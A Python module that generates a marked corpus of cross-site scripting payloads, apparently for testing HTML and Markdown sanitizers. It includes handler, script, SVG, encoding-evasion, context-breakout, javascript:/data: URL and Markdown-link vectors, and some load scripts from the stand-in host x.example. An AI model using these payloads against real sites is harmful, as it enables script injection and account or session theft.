"""More than two hundred ways to say `run this` in a text. Each holds the mark, by which it is known again.

Put together from what makes a browser run something (elements, handlers, addresses) and what may let it out of where it
was written (quotes, ends of elements, comments, Markdown).
"""

from __future__ import annotations

MARK = "zqxj"
RUN = f"alert`{MARK}`"

HANDLERS = {
    "img": "src=x onerror", "svg": "onload", "body": "onload", "video": "src=x onerror", "audio": "src=x onerror",
    "details": "open ontoggle", "input": "autofocus onfocus", "select": "autofocus onfocus", "marquee": "onstart",
    "iframe": "onload", "object": "data=x onerror", "math": "onmouseover", "a": "href=# onclick",
    "textarea": "autofocus onfocus", "style": "onload", "link": "rel=stylesheet href=x onerror",
    "button": "autofocus onfocus", "dialog": "open onclose", "form": "onsubmit", "table": "onpointerenter",
    "p": "onanimationend", "b": "oncopy", "h2": "onclick", "li": "onclick", "blockquote": "onwheel",
}  # fmt: skip
BARE = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<script src=//x.example/{MARK}.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<script>{RUN}",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={RUN}>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,{MARK}'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='{RUN}'></foreignObject></svg>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<embed code=//x.example/{MARK}.swf>",
    f"<base href=//x.example/{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=set-cookie content={MARK}=1>",
    f"<form action=javascript:{RUN}><input type=submit></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<isindex action=javascript:{RUN}>",
    f"<style>@import '//x.example/{MARK}.css'</style>",
    f"<style>*{{background:url(//x.example/{MARK})}}</style>",
    f"<link rel=import href=//x.example/{MARK}>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<title><p title='</title><img src=x onerror={RUN}>'>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<x onclick={RUN}>x",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    f"<?xml-stylesheet href='javascript:{RUN}'?>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!DOCTYPE x [<!ENTITY y '{MARK}'>]>&y;<script>{RUN}</script>",
    f"<img src=x:x onerror\n=\n{RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src='x' onerror='{RUN}' ",
    f"<img src=\"x\"onerror=\"{RUN}\">",
    f"<img src=x oNeRrOr={RUN}>",
    f"<img \x0bsrc=x\x0conerror={RUN}>",
    f"<img src=x onerror=&#97;lert`{MARK}`>",
    f"<img srcset='x 1x' onerror={RUN}>",
    f"＜script＞{RUN}＜/script＞",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{% include '{MARK}' %}}<script>{RUN}</script>",
    f"${{{RUN}}}",
    f"#eval(\"{RUN}\")",
)  # fmt: skip
# What may end the place where a text stands, with what follows.
WAYS_OUT = ('">', "'>", '" ', "' ", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "*/", "`>")
AFTER = (f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f" autofocus onfocus={RUN} x=")
# Addresses that run, as they may be hidden in a link.
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#10;script:{RUN}",
    f"&#x6A;avascript:{RUN}",
    f"&#0000106&#0000097vascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://x.example/%0a{RUN}",
    f"javascript:/*--></title></style>*/{RUN}",
    f"vbscript:msgbox({MARK})",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,PHNjcmlwdD4={MARK}",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"blob:{RUN}",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"jar:javascript:{RUN}!/",
)  # fmt: skip
MARKDOWN = (
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "![x]({})",
    "[x][r]\n\n[r]: {}",
    "[x]({} \"a\" onmouseover=" + RUN + ")",
)  # fmt: skip
ODD_MARKDOWN = (
    f"![{MARK}](x\" onerror=\"{RUN})",
    f"[x](http://x.example/\"onmouseover=\"{RUN})",
    f"[x](http://x.example/ 'y\" onmouseover={RUN} \"')",
    f"```{MARK}\" onclick=\"{RUN}\n</code><script>{RUN}</script>\n```",
    f"`</code><script>{RUN}</script>`",
    f"    </pre><script>{RUN}</script>",
    f"# <script>{RUN}</script>",
    f"> <img src=x onerror={RUN}>",
    f"* <svg onload={RUN}>",
    f"**<b onclick={RUN}>**",
    f"http://x.example/<script>{RUN}</script>",
    f"[<img src=x onerror={RUN}>](http://x.example)",
    f"\\<script>{RUN}\\</script>",
    f"<a href=\"\\javascript:{RUN}\">x</a>",
)  # fmt: skip

PAYLOADS: list[str] = [
    *(f"<{element} {handler}={RUN}>" for element, handler in HANDLERS.items()),
    *BARE,
    *(way + after for way in WAYS_OUT for after in AFTER),
    *(f"<a href='{address}'>x</a>" for address in ADDRESSES),
    *(shape.format(address) for shape in MARKDOWN for address in ADDRESSES[:11]),
    *ODD_MARKDOWN,
]


def bundle(most: int, start: int = 0) -> str:
    """Return as many payloads, from one on and round again, as a text of `most` characters holds; at least one."""
    text = ""
    for n in range(len(PAYLOADS)):
        more = PAYLOADS[(start + n) % len(PAYLOADS)]
        if text and len(text) + len(more) + 2 > most:
            break
        text += ("\n\n" if "\n" in more or most > 1_000 else " ") * bool(text) + more
    return text[:most]
